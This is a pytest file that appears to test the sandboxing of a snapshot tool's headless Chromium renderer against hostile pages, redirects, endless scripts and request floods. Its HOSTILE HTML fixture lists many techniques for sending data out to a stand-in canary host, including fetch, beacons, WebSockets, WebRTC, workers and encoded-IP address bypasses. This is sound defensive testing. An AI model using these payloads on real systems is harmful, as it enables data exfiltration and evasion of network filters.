import asyncio
import socket
import threading
from contextlib import suppress
from time import monotonic

import pytest

from snapshots.errors import FetchError, FetchFailed
from snapshots.fetching.browser import Browser
from snapshots.fetching.budget import Budget
from snapshots.fetching.rendering import MOST_PARTS, Document, Fetching, Rendering


class Canary:
    """A port of the loopback, of TCP and of UDP, that notes whoever comes."""

    def __init__(self, host: str) -> None:
        self.seen: list[str] = []
        self.both = threading.Event()
        self.listener = socket.create_server((host, 0))
        self.port = self.listener.getsockname()[1]
        self.datagrams = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.datagrams.bind((host, self.port))
        self.address = f"{host}:{self.port}"
        self.threads = [threading.Thread(target=each) for each in (self._accept, self._receive)]
        for thread in self.threads:
            thread.start()

    def _note(self, way: str) -> None:
        self.seen.append(way)
        if {"TCP", "UDP"} <= set(self.seen):
            self.both.set()

    def _accept(self) -> None:
        while True:
            connection, _ = self.listener.accept()
            with connection:
                first = connection.recv(100)
                if first == b"end":
                    return
                self._note("TCP")

    def _receive(self) -> None:
        while self.datagrams.recv(100) != b"end":
            self._note("UDP")

    def close(self) -> None:
        with socket.create_connection(self.listener.getsockname()) as knock:
            knock.sendall(b"end")
        self.datagrams.sendto(b"end", self.datagrams.getsockname())
        for thread in self.threads:
            thread.join()
        self.listener.close()
        self.datagrams.close()


@pytest.fixture
def canary():
    found = Canary("127.0.0.1")
    yield found
    found.close()


HOSTILE = """<!doctype html><p id=p>text</p>
<link rel=preconnect href="//CANARY"><link rel=dns-prefetch href="//CANARY">
<link rel=prefetch href="//CANARY/prefetch"><link rel=stylesheet href="//CANARY/style">
<img src="//CANARY/img"><iframe src="//CANARY/frame"></iframe><object data="//CANARY/o"></object>
<video src="//CANARY/video" autoplay></video><script src="//CANARY/script"></script>
<script src="/redirecting.js"></script>
<iframe srcdoc="<script>fetch('http://CANARY/inner')</script><img src='http://CANARY/i'>"></iframe>
<form id=f method=post target=_blank action="//CANARY/form"></form>
<script>
const attempts = [
    () => fetch("//CANARY/fetch", {mode: "no-cors"}),
    () => fetch("//CANARY/post", {method: "POST", body: "x", mode: "no-cors", keepalive: true}),
    () => fetch("//2130706433:PORT/decimal"), () => fetch("//[::ffff:127.0.0.1]:PORT/mapped"),
    () => fetch("//localhost:PORT/name"), () => fetch("/redirecting.js"),
    () => navigator.sendBeacon("//CANARY/beacon", "x"),
    () => new WebSocket("ws://CANARY/socket"), () => new EventSource("//CANARY/events"),
    () => window.open("//CANARY/window"), () => document.getElementById("f").submit(),
    () => new WebTransport("https://CANARY/transport"),
    () => new Worker("data:text/javascript,fetch('http://CANARY/worker');new WebSocket('ws://CANARY')"),
    () => new SharedWorker("data:text/javascript,fetch('http://CANARY/shared')"),
    () => navigator.serviceWorker.register("/worker.js"),
    () => { const w = new RTCPeerConnection({iceServers: [{urls: "stun:CANARY"},
        {urls: "turn:CANARY?transport=tcp", username: "u", credential: "c"}]});
        w.createDataChannel("d"); w.createOffer().then(o => w.setLocalDescription(o)); },
    () => alert("stay"), () => print(), () => { onbeforeunload = () => "stay"; },
    () => { const a = document.createElement("a"); a.href = "/file.bin"; a.download = "f"; a.click(); },
];
for (const attempt of attempts) {
    try { Promise.resolve(attempt()).catch(() => 0); } catch {}
}
p.textContent = "tried " + attempts.length;
</script>"""


def test_no_byte_of_a_hostile_page_reaches_a_forbidden_address(site, reply, canary, rendered):
    page = HOSTILE.replace("CANARY", canary.address).replace("PORT", str(canary.port))
    site.pages["/"] = page.encode()
    away = reply(b"", ("Location", f"http://{canary.address}/redirected"), status=302)
    site.pages["/redirecting.js"] = away
    (found,) = rendered(site.address + "/")
    assert b"tried 20" in found.body
    assert canary.seen == []
    assert "/worker.js" not in site.paths()


def test_a_page_that_is_sent_to_a_forbidden_address_fails(site, reply, canary, rendered):
    # The catalogue allows the loopback, but scripts reach the source's own origin there only.
    there = f"http://{canary.address}/"
    site.pages["/script"] = f"<script>location = '{there}'</script>".encode()
    site.pages["/meta"] = f"<meta http-equiv=refresh content='0;url={there}'>".encode()
    site.pages["/server"] = b"<script>top.location.replace('/redirecting')</script>"
    site.pages["/redirecting"] = reply(b"", ("Location", "http://10.0.0.1/"), status=302)
    for found in rendered(*(site.address + way for way in ("/script", "/meta", "/server"))):
        assert isinstance(found, FetchFailed)
        assert "not an address on the open internet" in str(found)
    assert canary.seen == []


async def opened(context, canary, seconds: float) -> None:
    """Open the hostile page, with nothing but itself handed to the browser, and wait a while."""
    from playwright.async_api import Error

    hostile = HOSTILE.replace("CANARY", canary.address).replace("PORT", str(canary.port))
    page = await context.new_page()
    # On the loopback it may try everything that only secure pages may.
    await page.route(
        "http://127.0.0.1:1/", lambda route: route.fulfill(body=hostile, content_type="text/html")
    )
    page.on("dialog", lambda dialog: dialog.dismiss())
    with suppress(Error):  # it leaves itself
        await page.goto("http://127.0.0.1:1/", timeout=seconds * 1000)
    await asyncio.to_thread(canary.both.wait, seconds)


def test_chromium_has_no_network_of_its_own(canary):
    async def run():
        browser = Browser({})
        try:
            async with browser.place(), browser.context("tr") as context:
                await opened(context, canary, 2)
        finally:
            await browser.close()

    asyncio.run(run())
    assert canary.seen == []


def test_the_hostile_page_would_reach_the_canary_from_any_other_browser(canary):
    async def run():
        from playwright.async_api import async_playwright

        async with async_playwright() as driver:
            program = Browser({}).check()
            browser = await driver.chromium.launch(executable_path=program)
            await opened(await browser.new_context(), canary, 15)
            await browser.close()

    asyncio.run(run())
    assert set(canary.seen) == {"TCP", "UDP"}


def alone(page: bytes, seconds: float, part=None):
    """Render *page* with *part* for what it asks for, within *seconds*."""

    async def none(*_asked):
        raise FetchFailed("nothing else is here")

    async def run():
        document = Document(url="http://example.org/", content_type="text/html", body=page)
        browser = Browser({})
        try:
            async with browser.place():
                began = monotonic()
                try:
                    async with Budget(seconds).spending(), browser.context("tr") as context:
                        return await Rendering(document, Fetching(none, part or none)).run(context)
                finally:
                    took.append(monotonic() - began)
        finally:
            await browser.close()

    took: list[float] = []
    try:
        return asyncio.run(run())
    except FetchError as error:
        assert took[0] < seconds + 5
        return error


@pytest.mark.parametrize(
    "page",
    [
        b"<p>text</p><script>while (true) {}</script>",
        b"<p>text</p><script>const f = () => Promise.resolve().then(f); f()</script>",
    ],
)
def test_an_endless_script_ends_at_the_deadline(page):
    found = alone(page, 2.5)
    assert isinstance(found, FetchFailed)
    assert "it took longer than 2.5 seconds" in str(found)


def test_a_page_that_asks_for_parts_without_end_fails():
    page = b"<script>for (let i = 0; i < 300; i++) fetch('/' + i)</script>"
    found = alone(page, 20)
    assert isinstance(found, FetchFailed)
    assert f"more than {MOST_PARTS} parts" in str(found)
